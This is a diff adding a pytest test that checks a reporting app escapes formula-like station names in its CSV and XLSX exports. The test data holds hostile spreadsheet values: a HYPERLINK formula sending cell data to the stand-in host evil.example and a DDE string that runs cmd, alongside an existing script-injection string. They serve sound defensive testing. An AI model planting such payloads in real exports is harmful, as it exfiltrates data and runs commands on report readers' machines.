@@ -18,6 +18,7 @@ from __future__ import annotations
 import csv
 import io
 import uuid
+import zipfile
 from datetime import UTC, date, datetime, timedelta
 
 import pytest
@@ -331,6 +332,34 @@ def test_names_are_escaped_on_the_page(world, client):
     log_in(client, "bientap")
     page = client.get(f"/reports?area={_area_id(world, '08')}&from=2026-11-28&to=2026-11-30").get_data(as_text=True)
     assert "<script>alert(1)</script>" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Xem chi tiết")'
+
+
+def test_a_name_that_looks_like_a_formula_is_text_in_the_csv_and_the_workbook(world):
+    """OWASP "CSV Injection": a station named like a formula must not run when the report is opened."""
+    with world["database"].sessions() as session:
+        stations.get_station(session, "HG1-01").name = HOSTILE
+        stations.get_station(session, "HG1-02").name = "@SUM(1+1)*cmd|' /C calc'!A0; -1"
+        session.commit()
+    answer = world["api"].get(API, query_string={**PERIOD, "format": "csv"}, headers=world["people"]["bientap"])
+    text = answer.data.decode("utf-8-sig")
+    by_code = {row[0]: row for row in csv.reader(io.StringIO(text))}
+    assert by_code["HG1-01"][1] == "'" + HOSTILE
+    assert by_code["HG1-02"][1] == "'@SUM(1+1)*cmd|' /C calc'!A0; -1"
+    # Every text is quoted, so a ";" inside cannot start a cell where ";" separates them; figures are bare.
+    assert '"\'@SUM(1+1)*cmd|\' /C calc\'!A0; -1"' in text and ',"HG1-02",' not in text
+    assert "\r\n\"HG1-02\",\"" in text and ",1," in text
+
+    book = world["api"].get(API, query_string={**PERIOD, "format": "xlsx"}, headers=world["people"]["bientap"])
+    workbook = load_workbook(io.BytesIO(book.data))
+    sheet = workbook[workbook.sheetnames[0]]
+    cells = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
+    assert cells["HG1-01"].value == HOSTILE and cells["HG1-01"].data_type == "s"
+    with zipfile.ZipFile(io.BytesIO(book.data)) as parts:
+        assert not any("<f>" in parts.read(name).decode() for name in parts.namelist()
+                       if name.startswith("xl/worksheets/"))
 
 
 def _off_schedule(kind: str, key: str, entry_id: str, at: datetime, seconds: float, **changes) -> dict:
